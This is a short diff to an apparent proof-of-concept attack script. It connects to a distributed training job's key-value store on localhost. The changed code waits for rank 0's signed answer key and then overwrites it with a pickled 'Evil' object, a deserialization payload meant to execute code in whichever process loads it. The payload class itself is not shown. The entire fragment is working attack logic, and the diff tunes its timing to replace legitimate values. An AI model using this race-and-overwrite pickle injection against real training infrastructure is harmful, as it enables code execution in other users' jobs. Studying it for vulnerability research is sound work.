@@ -29,8 +29,10 @@ def attack(mode: str, port: int) -> None:
         "127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=60)
     )
     if mode == "store":
-        for key in ("seats/1", "answers/1"):
-            store.set(f"hpctrain/0/devices/{key}", pickle.dumps(Evil(), protocol=0).decode("ascii"))
+        key = "hpctrain/0/devices/answers/1"
+        # Wait for the signed answer of rank 0.
+        store.get(key)
+        store.set(key, pickle.dumps(Evil(), protocol=0).decode("ascii"))
         print("sent", flush=True)
         # The connection stays open, which exposes the user.
         threading.Event().wait()
